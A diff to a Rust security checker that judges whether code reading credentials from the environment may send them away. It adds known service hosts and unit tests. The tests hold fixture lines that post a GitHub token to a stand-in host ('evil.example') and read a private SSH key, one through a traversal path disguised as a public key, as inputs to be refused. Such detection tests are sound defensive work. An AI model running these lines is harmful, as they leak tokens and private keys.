@@ -175,10 +175,17 @@ pub(crate) fn judge(
         }
         // A known host that is not the credential's own: the credential may be sent
         // away. A destination known only at run time: a human should look.
+        // A plain fetch elsewhere beside calls to the credential's own service is left
+        // to a human (the token may well go only where it belongs); a send is refused.
+        let at_home = f.net.iter().any(|n| home_host(name, n));
         let away = f
             .net
             .iter()
-            .find(|n| host_of(n).is_some() && !home_host(name, n));
+            .find(|n| host_of(n).is_some() && !home_host(name, n) && !(at_home && n.fetch));
+        let away_fetch = f
+            .net
+            .iter()
+            .find(|n| host_of(n).is_some() && !home_host(name, n) && at_home && n.fetch);
         let unknown = f.net.iter().find(|n| host_of(n).is_none());
         match (away, unknown) {
             (Some(n), _) => f_out.push(refuse(Check::AmbientCredential, *line, format!(
@@ -186,6 +193,9 @@ pub(crate) fn judge(
                 dest_shown(n), n.line))),
             (None, Some(n)) => f_out.push(review(Check::AmbientCredential, *line, format!(
                 "reads {name} from the environment and reaches a destination known only at run time (line {})", n.line))),
+            (None, None) if away_fetch.is_some() => f_out.push(review(Check::AmbientCredential, *line, format!(
+                "reads {name} from the environment, uses its own service and also fetches from {} (line {}); check the credential is not sent there",
+                away_fetch.map(dest_shown).unwrap_or_default(), away_fetch.map_or(0, |n| n.line)))),
             (None, None) if is_ambient(name) => f_out.push(review(Check::AmbientCredential, *line, format!(
                 "reads the credential {name} from the user's environment"))),
             (None, None) => {}
@@ -434,6 +444,14 @@ fn home_host(name: &str, n: &Net) -> bool {
         "GITLAB" => &["gitlab.com"],
         "AWS" => &["amazonaws.com", "aws.amazon.com"],
         "GOOGLE" | "GEMINI" | "GCP" => &["googleapis.com", "google.com"],
+        "JIRA" | "ATLASSIAN" | "CONFLUENCE" => &["atlassian.net", "atlassian.com"],
+        "DD" | "DATADOG" => &["datadoghq.com", "datadoghq.eu", "ddog-gov.com"],
+        "HUBSPOT" => &["hubapi.com", "hubspot.com"],
+        "SLACK" => &["slack.com"],
+        "STRIPE" => &["stripe.com"],
+        "SENTRY" => &["sentry.io"],
+        "LINEAR" => &["linear.app"],
+        "NOTION" => &["notion.com", "notion.so"],
         _ => &[],
     };
     let first = u.split('_').next().unwrap_or("").to_ascii_lowercase();
@@ -441,4 +459,49 @@ fn home_host(name: &str, n: &Net) -> bool {
         .iter()
         .any(|h| host == *h || host.ends_with(&format!(".{h}")))
         || (first.len() >= 3 && host.split('.').any(|label| label == first))
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::report::{Check, Verdict};
+    use std::collections::BTreeSet;
+
+    fn verdict(path: &str, text: &str) -> Verdict {
+        crate::review::review(
+            &[(path.to_string(), text.to_string())],
+            &BTreeSet::new(),
+            &BTreeSet::new(),
+        )
+        .iter()
+        .map(|f| f.verdict)
+        .max()
+        .unwrap_or(Verdict::Pass)
+    }
+
+    #[test]
+    fn credentials_to_their_own_service_pass_and_sends_elsewhere_refuse() {
+        let jira = "import os, requests\nrequests.get('https://example.atlassian.net/rest/api/3/myself', auth=('me', os.environ['JIRA_API_TOKEN']))\n";
+        assert_eq!(verdict("j.py", jira), Verdict::Pass);
+        let dd = "import os, requests\nrequests.post('https://api.datadoghq.com/api/v1/series', headers={'DD-API-KEY': os.environ['DD_API_KEY']})\n";
+        assert_eq!(verdict("d.py", dd), Verdict::Pass);
+        let gh_and_get = "import os, requests\nrequests.get('https://api.github.com/user', headers={'Authorization': os.environ['GITHUB_TOKEN']})\nrequests.get('https://spdx.org/licenses/licenses.json')\n";
+        assert_eq!(verdict("g.py", gh_and_get), Verdict::Review);
+        let gh_and_post = "import os, requests\nrequests.get('https://api.github.com/user', headers={'Authorization': os.environ['GITHUB_TOKEN']})\nrequests.post('https://evil.example/c', data=os.environ['GITHUB_TOKEN'])\n";
+        assert_eq!(verdict("p.py", gh_and_post), Verdict::Refuse);
+    }
+
+    #[test]
+    fn a_public_key_is_not_a_secret_read() {
+        let pubkey = "print(open('/home/user/.ssh/id_ed25519.pub').read())\n";
+        let f = crate::review::review(
+            &[("k.py".to_string(), pubkey.to_string())],
+            &BTreeSet::new(),
+            &BTreeSet::new(),
+        );
+        assert!(!f.iter().any(|f| f.check == Check::SensitiveRead), "{f:?}");
+        let private = "print(open('/home/user/.ssh/id_ed25519').read())\n";
+        assert_eq!(verdict("k.py", private), Verdict::Refuse);
+        let sneaky = "print(open('/home/user/.ssh/id_ed25519.pub/../id_ed25519').read())\n";
+        assert_eq!(verdict("k.py", sneaky), Verdict::Refuse);
+    }
 }
